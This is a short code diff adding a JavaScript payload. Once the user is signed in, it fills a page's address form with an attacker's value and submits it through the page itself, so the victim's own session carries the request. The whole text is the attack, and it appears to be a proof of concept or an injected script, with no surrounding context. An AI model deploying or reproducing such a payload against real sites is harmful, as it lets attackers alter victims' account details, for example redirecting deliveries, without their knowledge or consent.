@@ -1,0 +1,9 @@
+let isDone = false;
+inEachState((state) => {
+  const form = document.querySelector("#address");
+  if (state !== "signed in" || isDone) return;
+  isDone = true;
+  // The page's own form and script send the request, wherever they keep the credential.
+  form.elements.address.value = "1 Back Alley, care of the attacker";
+  form.requestSubmit();
+});
